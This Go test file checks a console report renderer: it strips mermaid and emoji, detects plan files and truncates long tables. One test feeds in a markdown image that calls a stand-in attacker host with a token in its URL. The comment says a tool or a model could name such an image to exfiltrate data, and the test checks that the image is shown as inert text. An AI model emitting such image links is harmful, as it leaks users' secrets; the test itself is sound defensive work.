package console

import (
	"bytes"
	"strings"
	"testing"
)

// The page's report has no mermaid source (the page draws the graph) and
// no emoji (empty boxes without an emoji font).
func TestReportForTheConsole(t *testing.T) {
	md := "# ✅ p: passed\n\nall good\n\n## Graph\n\n```mermaid\nflowchart TD\n  a --> b\n```\n\n## Steps\n\n| step |\n"
	got := string(forConsole([]byte(md)))
	if strings.Contains(got, "mermaid") || strings.Contains(got, "flowchart") || strings.Contains(got, "✅") || !strings.Contains(got, "# p: passed") || !strings.Contains(got, "## Steps") {
		t.Fatalf("%q", got)
	}
}

// A plan file has name and steps at its top level; a browser scenario
// (steps only) is not listed as a plan.
func TestPlanFilesAreListedByTheirKeys(t *testing.T) {
	for doc, want := range map[string]bool{
		"name: p\nsteps:\n  - {id: a}\n":           true,
		"# a plan\nname: p\nsteps: []\n":           true,
		"# a scenario\nsteps:\n  - goto: /\n":      false,
		"name: x\nitems:\n  steps: 1\n":            false,
		"description: has name: and steps: inline": false,
	} {
		if got := topLevel([]byte(doc), "steps") && topLevel([]byte(doc), "name"); got != want {
			t.Errorf("%q: %v", doc, got)
		}
	}
}

// A table of thousands of rows is cut to MaxTableRows, saying how many
// rows it left out; text after it stays.
func TestReportTablesAreCut(t *testing.T) {
	var b strings.Builder
	b.WriteString("## Steps\n\n| step | status |\n|---|---|\n")
	for i := 0; i < 1000; i++ {
		b.WriteString("| s | ok |\n")
	}
	b.WriteString("\n## After\n")
	got := string(forConsole([]byte(b.String())))
	if n := strings.Count(got, "| s | ok |"); n != MaxTableRows || !strings.Contains(got, "(700 more rows: the whole report is report.md)") || !strings.HasSuffix(got, "## After\n") {
		t.Fatalf("%d rows kept:\n%.300s", n, got[len(got)-200:])
	}
}

// An image in a report is shown as its text: opening a report fetches
// nothing a tool or a model named (the attack of issue 56's review).
func TestReportImagesAreText(t *testing.T) {
	var out bytes.Buffer
	if err := markdown.Convert([]byte("see ![s](http://evil.example/px?d=tok) and [a link](http://x.example)\n"), &out); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "<img") || !strings.Contains(out.String(), "[image: s http://evil.example/px?d=tok]") {
		t.Fatalf("%s", out.String())
	}
}
